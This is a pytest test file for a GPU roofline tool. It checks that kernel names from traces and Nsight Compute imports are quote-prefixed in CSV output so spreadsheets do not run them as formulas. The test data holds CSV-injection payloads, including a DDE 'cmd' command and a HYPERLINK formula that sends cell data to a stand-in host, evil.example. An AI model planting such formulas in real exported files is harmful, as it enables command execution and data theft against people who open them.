"""CSV formula injection (issue 24, item 2): a kernel or op name from a trace goes into every CSV the
tool writes with a leading single quote where it begins with a character a spreadsheet reads as a
formula (OWASP CSV injection: = + - @ tab CR); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest

from roofline.cli import main
from roofline.report.text.csvcells import csv_cell, csv_text

# the payloads OWASP's CSV-injection page and issue 24 name
ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@x", "\tx", "\rx",
           "-2+3+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("name", ATTACKS)
def test_a_formula_cell_is_prefixed_with_a_single_quote(name: str) -> None:
    assert csv_cell(name) == "'" + name
    # read back as CSV, the cell is the name with one quote before it, whatever commas or quotes it holds
    back = list(csv.reader(io.StringIO(csv_text(["name", "time_s"], [[name, 1.5]]), newline="")))
    assert back[1] == ["'" + name, "1.5"]


def test_numbers_and_plain_names_stay_as_they_are() -> None:
    # a negative number is data, not a formula: only text cells are neutralised
    assert csv_cell(-3) == -3 and csv_cell(-0.25) == -0.25 and csv_cell(np.float64(-1e-6)) == -1e-6
    assert csv_cell(np.int64(-7)) == -7 and csv_cell(True) is True and csv_cell(None) == ""
    assert csv_cell("sm90_xmma_gemm") == "sm90_xmma_gemm" and csv_cell("a=b") == "a=b"  # only the first character
    assert csv_text(["x"], [[-5]]) == "x\n-5\n"


def _ncu_csv(kernels: list[str]) -> str:
    """An Nsight Compute raw-page CSV (`ncu --csv --page raw`): one row per kernel, 100 µs and 15 MB of DRAM
    each, named by an attacker; the two header rows are the metric names and their units."""
    names = ["ID", "Kernel Name", "gpu__time_duration.sum", "dram__bytes_read.sum", "dram__bytes_write.sum"]
    units = ["", "", "usecond", "Mbyte", "Mbyte"]
    rows = [names, units, *([str(i), k, "100", "10", "5"] for i, k in enumerate(kernels))]
    return "\n".join(",".join('"' + c.replace('"', '""') + '"' for c in row) for row in rows) + "\n"


def test_import_csv_neutralises_kernels_named_as_formulas(tmp_path: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    ncu, out = tmp_path / "k.csv", tmp_path / "out.csv"
    ncu.write_text(_ncu_csv(ATTACKS[:5]))
    assert main(["import", str(ncu), "--machine", "h100", "--csv", str(out)]) == 0, capsys.readouterr().err
    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
    # the ncu reader shortens a name at its "(" (a C++ signature's arguments) and strips the whitespace
    # around it ("\tx" is read as x); each name that still begins with a formula character is quoted
    assert [r["name"] for r in rows] == ["'=cmd|' /C calc'!A0", "'=HYPERLINK", "'+1", "'@x", "x"]
    cells = [v for r in rows for v in r.values() if v]
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in cells), rows
    # each kernel's time is still a number: ncu's 100 usecond = 100e-6 s
    assert all(abs(float(r["measured_time_s"]) - 100e-6) < 1e-12 for r in rows)
